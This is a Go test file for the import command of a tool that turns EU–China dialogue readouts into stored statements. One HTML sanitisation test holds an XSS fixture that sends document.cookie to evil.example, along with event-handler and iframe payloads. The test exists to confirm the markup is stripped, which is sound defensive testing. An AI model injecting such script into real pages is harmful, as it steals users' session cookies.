package cli

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"parley/storage"
)

func importRun(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := Run(context.Background(), &Env{Stdout: &out, Stderr: &errb}, append([]string{"import"}, args...))
	return code, out.String(), errb.String()
}

// importProject makes a project with one dialogue and one party.
func importProject(t *testing.T) (string, *storage.Store) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "p.parley")
	st, err := storage.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := st.CreateDialogue(context.Background(), &storage.Dialogue{Title: "Round 39"}); err != nil {
		t.Fatal(err)
	}
	if err := st.CreateParty(context.Background(), &storage.Party{Name: "European Union", ShortName: "EU", Color: "#1f4e9c"}); err != nil {
		t.Fatal(err)
	}
	st.Close()
	return path, nil
}

func writeInput(t *testing.T, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// projectCounts is what a failed import must leave as it was.
func projectCounts(t *testing.T, path string) [4]int {
	t.Helper()
	st, err := storage.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := context.Background()
	ps, _ := st.Parties(ctx)
	srcs, _ := st.Sources(ctx, 0)
	sts, _ := st.StatementViews(ctx, storage.StatementFilter{}, 0)
	ds, _ := st.Dialogues(ctx)
	return [4]int{len(ps), len(srcs), len(sts), len(ds)}
}

const importReadout = "EU readout\n\nThe EU raised concerns about human rights in Xinjiang. China rejected the accusations. Both sides agreed to meet again."

func TestImportPrintsAndStoresNothing(t *testing.T) {
	project, _ := importProject(t)
	before := projectCounts(t, project)
	code, out, errs := importRun(t, "-author", "EU", project, writeInput(t, "r.txt", importReadout))
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	for _, want := range []string{"(skip)\taccount\t-\tEU readout", "European Union\tconcern\t", "China\tobjection\t", "European Union+China\tagreement\t"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	if after := projectCounts(t, project); after != before {
		t.Fatalf("printing proposals changed the project: %v → %v", before, after)
	}
}

func TestImportAccept(t *testing.T) {
	project, _ := importProject(t)
	file := writeInput(t, "r.txt", importReadout)
	code, out, errs := importRun(t, "-author", "European Union", "-dialogue", "Round 40", "-accept", project, file)
	if code != 0 || !strings.Contains(out, "stored 3 statements") {
		t.Fatalf("exit %d: %s %s", code, out, errs)
	}
	st, err := storage.Open(project)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	ps, _ := st.Parties(ctx)
	d, err := st.DialogueByTitle(ctx, "Round 40")
	srcs, _ := st.Sources(ctx, d.ID)
	st.Close()
	if err != nil || len(srcs) != 1 || srcs[0].AuthorPartyID == nil {
		t.Fatalf("dialogue %v, sources %+v", err, srcs)
	}
	if len(ps) != 2 || ps[0].Name != "European Union" || ps[1].Name != "China" {
		t.Fatalf("-author 'European Union' must match the EU party; parties %+v", ps)
	}
	t.Run("ErrAlreadyImported", func(t *testing.T) {
		before := projectCounts(t, project)
		code, _, errs := importRun(t, "-author", "EU", "-dialogue", "Round 40", "-accept", project, file)
		if code != 1 || !strings.Contains(errs, "already imported") {
			t.Fatalf("exit %d: %s", code, errs)
		}
		if after := projectCounts(t, project); after != before {
			t.Fatalf("a refused import changed the project: %v → %v", before, after)
		}
	})
	t.Run("Again", func(t *testing.T) {
		if code, _, errs := importRun(t, "-again", "-dialogue", "2", "-accept", project, file); code != 0 {
			t.Fatalf("exit %d: %s", code, errs)
		}
	})
}

func TestImportBadInputChangesNothing(t *testing.T) {
	project, _ := importProject(t)
	good := writeInput(t, "good.txt", importReadout)
	cases := []struct{ name, file, content, want string }{
		{"Empty", "empty.txt", "", "holds no text"},
		{"BinaryRenamed", "image.txt", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01", "not text"},
		{"InvalidUTF8", "latin1.txt", "Caf\xe9 au lait.", "not valid UTF-8"},
		{"Unsupported", "slides.pptx", "PK", "cannot be imported"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := projectCounts(t, project)
			// The bad file comes second: the good one before it must not be
			// stored either.
			code, _, errs := importRun(t, "-dialogue", "Round 39", "-accept", project, good, writeInput(t, c.file, c.content))
			if code != 1 || !strings.Contains(errs, c.want) || !strings.Contains(errs, c.file) {
				t.Fatalf("exit %d: %q", code, errs)
			}
			if after := projectCounts(t, project); after != before {
				t.Fatalf("a failed import changed the project: %v → %v", before, after)
			}
		})
	}
}

func TestImportHTMLNeverStoresMarkup(t *testing.T) {
	project, _ := importProject(t)
	page := `<html><head><title>Readout</title><meta property="og:site_name" content="European External Action Service">
<script>fetch("https://evil.example/"+document.cookie)</script></head>
<body onload="steal()"><p onclick="evil()">The EU raised concerns.<img src=x onerror="alert(1)"></p>
<iframe src="https://evil.example"></iframe><p>China rejected them.</p></body></html>`
	code, out, errs := importRun(t, "-dialogue", "Round 39", "-accept", project, writeInput(t, "page.html", page))
	if code != 0 {
		t.Fatalf("exit %d: %s %s", code, out, errs)
	}
	st, _ := storage.Open(project)
	defer st.Close()
	srcs, _ := st.Sources(context.Background(), 0)
	src, _ := st.Source(context.Background(), srcs[0].ID)
	for _, bad := range []string{"<", ">", "script", "onload", "onclick", "onerror", "evil", "steal", "fetch"} {
		if strings.Contains(src.Text, bad) {
			t.Fatalf("stored text holds %q: %q", bad, src.Text)
		}
	}
	if src.Text != "The EU raised concerns.\n\nChina rejected them." || src.Publisher != "European External Action Service" {
		t.Fatalf("stored %q, publisher %q", src.Text, src.Publisher)
	}
	sts, _ := st.StatementViews(context.Background(), storage.StatementFilter{}, 0)
	if len(sts) != 2 || sts[0].ReportedByName != "European Union" {
		t.Fatalf("statements %+v (the publisher should make the EU the author)", sts)
	}
}

func TestImportUsage(t *testing.T) {
	project, _ := importProject(t)
	if code, _, _ := importRun(t, project); code != 2 {
		t.Fatalf("no file: exit %d, want 2", code)
	}
	st, _ := storage.Open(project)
	st.CreateDialogue(context.Background(), &storage.Dialogue{Title: "Round 40"})
	st.Close()
	code, _, errs := importRun(t, "-accept", project, writeInput(t, "r.txt", importReadout))
	if code != 2 || !strings.Contains(errs, "-dialogue") {
		t.Fatalf("two dialogues and no -dialogue: exit %d %q", code, errs)
	}
}

// TestImportIntoEmptyProject: a new project has no dialogue; the message
// says how to make one rather than count zero dialogues.
func TestImportIntoEmptyProject(t *testing.T) {
	project := filepath.Join(t.TempDir(), "empty.parley")
	if code, _, errs := dxRun(t, "new", project); code != 0 {
		t.Fatalf("new: %d %s", code, errs)
	}
	code, _, errs := importRun(t, "-accept", project, writeInput(t, "r.txt", importReadout))
	if code != 2 || !strings.Contains(errs, "no dialogue yet") || strings.Contains(errs, "0 dialogues") {
		t.Fatalf("exit %d %q", code, errs)
	}
	code, _, errs = importRun(t, "-accept", "-dialogue", "Round 1", project, writeInput(t, "r.txt", importReadout))
	if code != 0 {
		t.Fatalf("with -dialogue: exit %d %q", code, errs)
	}
}
